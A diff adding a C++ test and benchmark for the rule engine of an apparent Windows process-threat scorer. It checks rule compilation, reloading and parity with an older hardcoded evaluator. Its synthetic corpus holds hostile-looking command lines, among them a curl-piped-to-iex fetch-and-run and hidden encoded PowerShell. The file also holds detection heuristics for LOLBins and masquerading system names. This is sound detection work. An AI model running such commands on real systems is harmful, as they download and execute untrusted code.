@@ -0,0 +1,249 @@
+// SPDX-License-Identifier: MIT
+// Rule engine: compile errors, custom rules, reload from a file, then the default rules
+// against a frozen copy of the hardcoded evaluator (same results, timing).
+// build (Linux):
+//   g++ -O2 -std=c++17 -I../ProcHunt bench_rules.cpp ../ProcHunt/heuristics.cpp ../ProcHunt/rules.cpp ../ProcHunt/whitelist.cpp ../ProcHunt/matcher.cpp ../ProcHunt/obfusc.cpp ../ProcHunt/utils.cpp -o bench_rules
+#include <algorithm>
+#include <chrono>
+#include <cstdio>
+#include <cwctype>
+#include <memory>
+#include <random>
+#include <string>
+#include <vector>
+
+#include "heuristics.h"
+#include "legacy_indicators.h"
+#include "rules.h"
+#include "utils.h"
+
+namespace {
+    int g_fail = 0;
+    void check(bool ok, const char* what) {
+        if (!ok) { printf("FAIL: %s\n", what); ++g_fail; }
+    }
+
+    // ---- hardcoded evaluator before the rule engine (views + folded arena), frozen ----
+    std::vector<std::wstring> g_pub = { L"microsoft windows", L"microsoft corporation", L"microsoft windows publisher" };
+    std::vector<std::wstring> g_path = { L"c:\\windows\\system32", L"c:\\windows\\syswow64", L"c:\\program files", L"c:\\program files (x86)" };
+
+    bool starts_with(std::wstring_view s, std::wstring_view p) { return s.size() >= p.size() && s.compare(0, p.size(), p) == 0; }
+    std::wstring_view dirname_view(std::wstring_view p) { size_t i = p.find_last_of(L"\\/"); return i == std::wstring_view::npos ? std::wstring_view{} : p.substr(0, i); }
+    std::wstring_view basename_view(std::wstring_view p) { size_t i = p.find_last_of(L"\\/"); return i == std::wstring_view::npos ? p : p.substr(i + 1); }
+    std::wstring_view rstrip(std::wstring_view p) { while (!p.empty() && (p.back() == L'\\' || p.back() == L'/')) p.remove_suffix(1); return p; }
+    bool unc(std::wstring_view p, uint32_t tags) { return starts_with(p, L"\\\\") || (tags & legacy::IND_UNC_WEB); }
+    bool masq(std::wstring_view name, uint32_t imgTags) {
+        static const wchar_t* sysNames[] = { L"svchost.exe", L"lsass.exe", L"services.exe", L"winlogon.exe",
+                                            L"explorer.exe", L"smss.exe", L"taskhostw.exe" };
+        if (!(imgTags & legacy::IND_SYSTEM_PATH)) for (auto n : sysNames) if (name == n) return true;
+        return name.find_first_of(L"01537") != std::wstring_view::npos;
+    }
+
+    heur::Result hardcoded(std::wstring_view imagePath, std::wstring_view commandLine, std::wstring_view currentDir,
+        std::wstring_view processName, const SignView& sig)
+    {
+        using namespace legacy;
+        thread_local std::wstring arena;
+        arena.resize(imagePath.size() + currentDir.size() + processName.size() + sig.publisher.size());
+        wchar_t* d = &arena[0];
+        auto fold = [&](std::wstring_view s) { wchar_t* b = d; for (wchar_t c : s) *d++ = (wchar_t)::towlower(c); return std::wstring_view(b, s.size()); };
+        const std::wstring_view img = fold(imagePath), cwd = fold(currentDir), name = fold(processName), pub = fold(sig.publisher);
+
+        heur::Result r{};
+        const heur::Matcher& m = IndicatorMatcher();
+        const uint32_t imgTags = m.Scan(img), cwdTags = m.Scan(cwd), cmdTags = m.Scan(commandLine);
+        const bool imgSystem = (imgTags & IND_SYSTEM_PATH) != 0;
+        bool pathWl = false, pubWl = false;
+        for (auto& p : g_path) if (starts_with(img, p)) pathWl = true;
+        if (!pub.empty()) for (auto& p : g_pub) if (pub == p) pubWl = true;
+        if (!img.empty() && (imgTags & IND_USER_WRITABLE)) { r.score += 40; r.reasons.push_back(L"Image in user-writable path"); }
+        if (!img.empty() && unc(img, imgTags)) { r.score += 35; r.reasons.push_back(L"Image on UNC/Web path"); }
+        if (!cwd.empty()) {
+            if ((cwdTags & IND_TEMP_DL) || unc(cwd, cwdTags)) { r.score += 25; r.reasons.push_back(L"CWD in Temp/Downloads/UNC"); }
+            if (!img.empty() && !imgSystem && rstrip(dirname_view(img)) != rstrip(cwd)) { r.score += 10; r.reasons.push_back(L"CWD != executable directory"); }
+            if (!img.empty() && !imgSystem && (cwdTags & IND_SYSTEM32_DIR)) { r.score += 10; r.reasons.push_back(L"Non-system binary with System32 as CWD"); }
+        }
+        if (masq(name.empty() ? basename_view(img) : name, imgTags)) { r.score += 25; r.reasons.push_back(L"Masquerading name/location"); }
+        if (cmdTags & IND_LOLBIN) { r.score += 30; r.reasons.push_back(L"LOLBin/suspicious command line"); }
+        r.obf = heur::AnalyzeCommandLine(commandLine);
+        if (r.obf.Obfuscated()) { r.score += 20; r.reasons.push_back(L"Obfuscated/encoded command line"); }
+        if (!img.empty() && !name.empty() && name != basename_view(img)) { r.score += 10; r.reasons.push_back(L"Process name != image basename"); }
+        if (sig.trusted) {
+            r.reasons.push_back(L"Signature: VALID");
+            if (pubWl) r.reasons.push_back(L"Publisher whitelisted");
+            if (pubWl || pathWl) r.score = std::max(0, r.score - 30);
+        }
+        else { r.reasons.push_back(L"Signature: INVALID/UNSIGNED"); r.score += 30; }
+        if (pathWl) r.reasons.push_back(L"Path whitelisted");
+        if (r.score > 100) r.score = 100;
+        return r;
+    }
+
+    struct Proc { std::wstring img, cmd, cwd, name, pub; bool trusted; };
+
+    std::vector<Proc> make_corpus(size_t n, unsigned seed) {
+        static const wchar_t* dirs[] = { L"C:\\Windows\\System32\\", L"c:\\windows\\SYSWOW64\\", L"C:\\Program Files\\App\\",
+            L"C:\\Users\\bob\\AppData\\Local\\Temp\\", L"C:\\Users\\Public\\Downloads\\", L"\\\\fileserver\\share\\",
+            L"D:\\tools\\", L"C:\\ProgramData\\x\\", L"" };
+        static const wchar_t* names[] = { L"svchost.exe", L"SVCHOST.EXE", L"lsass.exe", L"svch0st.exe", L"explorer.exe",
+            L"powershell.exe", L"app.exe", L"upd4te.exe", L"" };
+        static const wchar_t* cmds[] = { L"", L" -k netsvcs", L" -nop -w hidden -enc SQBFAFgA", L" /c curl http://x/y | iex ",
+            L" \"C:\\data\\file.txt\"", L" -ExecutionPolicy Bypass" };
+        static const wchar_t* pubs[] = { L"", L"Microsoft Windows", L"microsoft corporation", L"Contoso Ltd" };
+        std::mt19937 rng(seed);
+        std::vector<Proc> v(n);
+        for (auto& p : v) {
+            std::wstring dir = dirs[rng() % 9];
+            std::wstring nm = names[rng() % 9];
+            p.img = dir.empty() ? std::wstring() : dir + (nm.empty() ? L"x.exe" : nm);
+            p.name = rng() % 5 ? nm : std::wstring(L"other.exe");
+            p.cmd = p.img + cmds[rng() % 6];
+            if (rng() % 10 == 0) p.cmd += std::wstring(150, L'Q');
+            p.cwd = rng() % 3 ? dir : std::wstring(dirs[rng() % 9]);
+            if (rng() % 4 == 0 && !p.cwd.empty()) p.cwd.pop_back();
+            p.pub = pubs[rng() % 4];
+            p.trusted = rng() % 2 != 0;
+        }
+        return v;
+    }
+
+    void compile_checks() {
+        struct Bad { const wchar_t* text; const wchar_t* err; };
+        const Bad bad[] = {
+            { L"field = image\n", L"line 1: key outside of a [rule] section" },
+            { L"[rule a]\nfield = path\n", L"line 2: unknown field 'path'" },
+            { L"[rule a]\nfield = image\nmatch = contains\n", L"line 1: rule 'a' has no needles" },
+            { L"[rule a]\ntest = signed\n[rule a]\n", L"line 3: duplicate rule 'a'" },
+            { L"[rule a]\nrequire = b\n[rule b]\ntest = signed\n", L"line 2: unknown rule 'b' (rules can only refer to earlier rules)" },
+            { L"[rule a]\nweight = lots\n", L"line 2: weight must be an integer in -1000..1000" },
+            { L"[rule a]\nfield = cmd\ntest = signed\nmatch = present\n", L"line 1: rule 'a' has both field and test" },
+            { L"[rul a]\n", L"line 1: expected [rule <name>]" },
+        };
+        for (auto& b : bad) {
+            heur::RuleSet rs;
+            std::wstring err;
+            bool ok = rs.Compile(b.text, &err);
+            if (ok || err != b.err) {
+                printf("FAIL: expected \"%s\", got %s \"%s\"\n", util::to_utf8(b.err).c_str(), ok ? "success" : "", util::to_utf8(err).c_str());
+                ++g_fail;
+            }
+        }
+
+        // Quoted needles keep spaces; needles are folded like every field (cmd included);
+        // negative totals clamp at 0; a rule can be both a condition and a scorer.
+        const wchar_t* custom =
+            L"\xFEFF# custom\n"
+            L"[rule enc]\nfield = cmd\nmatch = contains\nneedle = \" -E \"\nweight = 60\nreason = short -e flag\n"
+            L"[rule ps]\nfield = cmd\nmatch = prefix\nneedle = POWERSHELL\n"
+            L"[rule ps_enc]\nrequire = ps, enc\nweight = 50\nreason = encoded powershell\n"
+            L"[rule calc]\nfield = name\nmatch = equals\nneedle = Calc.exe\nweight = -500\nreason = calculator\n";
+        heur::RuleSet rs;
+        std::wstring err;
+        check(rs.Compile(custom, &err) && rs.Size() == 4 && rs.UsedTests() == 0, "custom rules compile");
+        heur::RuleInput in;
+        in.fields[heur::F_CMD] = L"powershell -e abc";
+        heur::Result r;
+        rs.Run(in, r);
+        check(r.score == 100 && r.reasons.size() == 2, "quoted needle + require + clamp at 100");
+        in.fields[heur::F_CMD] = L"cmd /c x -e y";
+        in.fields[heur::F_NAME] = L"calc.exe";
+        r = heur::Result{};
+        rs.Run(in, r);
+        check(r.score == 0 && r.reasons.size() == 2, "negative total clamps at 0");
+
+        // Reload through a file, as --rules / --watch do; a broken file leaves the active set alone.
+        const std::wstring path = L"/tmp/bench_rules.rules";
+        FILE* f = util::open_file(path, "wb");
+        std::string u8 = util::to_utf8(L"[rule everything]\nweight = 7\nreason = always\n");
+        fwrite(u8.data(), 1, u8.size(), f); fclose(f);
+        check(heur::LoadRulesFile(path, &err), "load rules file");
+        SignView sv;
+        auto res = heur::EvaluateProcess(L"C:\\x.exe", L"", L"", L"x.exe", sv);
+        check(res.score == 7 && res.reasons.size() == 1, "reloaded rules active");
+        f = util::open_file(path, "wb");
+        fwrite("[rule", 1, 5, f); fclose(f);
+        check(!heur::LoadRulesFile(path, &err) && heur::EvaluateProcess(L"C:\\x.exe", L"", L"", L"x.exe", sv).score == 7,
+            "broken file keeps the previous rules");
+        remove("/tmp/bench_rules.rules");
+
+        auto def = std::make_shared<heur::RuleSet>();
+        check(def->Compile(heur::DefaultRulesText(), &err), "default rules compile");
+        {
+            // Replaced sets stay alive until released; repeated reloads do not accumulate.
+            auto a = std::make_shared<heur::RuleSet>();
+            a->Compile(L"[rule a]\nweight = 1\n");
+            std::weak_ptr<const heur::RuleSet> wa = a;
+            heur::SetRules(std::move(a));
+            heur::SetRules(def);
+            check(!wa.expired(), "replaced rules alive until released");
+            heur::ReleaseRetiredRules();
+            check(wa.expired() && &heur::ActiveRules() == def.get(), "retired rules released, active kept");
+        }
+        {
+            // Every rule that holds reports its reason: 20 on one command line, 64 (the most a
+            // set can have) always holding.
+            std::wstring text;
+            for (int i = 0; i < 20; ++i) text += L"[rule c" + std::to_wstring(i) + L"]\nfield = cmd\nmatch = contains\nneedle = evil\nweight = 1\nreason = r" + std::to_wstring(i) + L"\n";
+            heur::RuleSet many;
+            check(many.Compile(text, &err), "20 cmd rules compile");
+            heur::RuleInput mi;
+            mi.fields[heur::F_CMD] = L"x.exe evil";
+            heur::Result mr;
+            many.Run(mi, mr);
+            check(mr.score == 20 && mr.reasons.size() == 20 && std::wstring(mr.reasons[19]) == L"r19", "20 reasons kept");
+            text.clear();
+            for (size_t i = 0; i < heur::RuleSet::kMaxRules; ++i) text += L"[rule a" + std::to_wstring(i) + L"]\nreason = a" + std::to_wstring(i) + L"\n";
+            check(many.Compile(text, &err), "64 rules compile");
+            mr = heur::Result{};
+            many.Run(heur::RuleInput{}, mr);
+            check(mr.reasons.size() == heur::RuleSet::kMaxRules && std::wstring(mr.reasons[63]) == L"a63", "64 reasons kept");
+        }
+        // A failed compile leaves an empty set that can be compiled again.
+        heur::RuleSet again;
+        check(!again.Compile(L"[rule", &err) && again.Size() == 0 && again.Compile(L"[rule b]\nweight = 2\n", &err) && again.Size() == 1,
+            "recompile after an error");
+    }
+
+    double now_ms() {
+        using namespace std::chrono;
+        return duration<double, std::milli>(steady_clock::now().time_since_epoch()).count();
+    }
+} // anon
+
+int main() {
+    compile_checks();
+    if (g_fail) return 1;
+    printf("compile/reload checks: ok\n");
+
+    heur::ClearProtectedNames();   // the hardcoded evaluator predates the name_lookalike test
+    const auto corpus = make_corpus(20000, 5);
+    for (auto& p : corpus) {
+        SignView sv; sv.trusted = p.trusted; sv.publisher = p.pub;
+        auto a = heur::EvaluateProcess(p.img, p.cmd, p.cwd, p.name, sv);
+        auto b = hardcoded(p.img, p.cmd, p.cwd, p.name, sv);
+        bool same = a.score == b.score && a.reasons.size() == b.reasons.size();
+        for (size_t i = 0; same && i < b.reasons.size(); ++i) same = std::wstring_view(a.reasons[i]) == b.reasons[i];
+        if (!same) { printf("MISMATCH: %s score %d vs %d\n", util::to_utf8(p.img).c_str(), a.score, b.score); return 1; }
+    }
+    printf("default rules == hardcoded evaluator (%zu processes)\n", corpus.size());
+
+    const int rounds = 30;
+    long sink = 0;
+    double best[2] = { 1e30, 1e30 };
+    for (int rep = 0; rep < 3; ++rep) {
+        for (int which = 0; which < 2; ++which) {
+            double t0 = now_ms();
+            for (int k = 0; k < rounds; ++k)
+                for (auto& p : corpus) {
+                    SignView sv; sv.trusted = p.trusted; sv.publisher = p.pub;
+                    sink += (which ? heur::EvaluateProcess(p.img, p.cmd, p.cwd, p.name, sv)
+                                   : hardcoded(p.img, p.cmd, p.cwd, p.name, sv)).score;
+                }
+            best[which] = std::min(best[which], now_ms() - t0);
+        }
+    }
+    const double n = (double)rounds * corpus.size();
+    printf("hardcoded: %.0f ns/process\n", best[0] * 1e6 / n);
+    printf("rules    : %.0f ns/process (%.2fx)   [%ld]\n", best[1] * 1e6 / n, best[0] / best[1], sink & 1);
+    return 0;
+}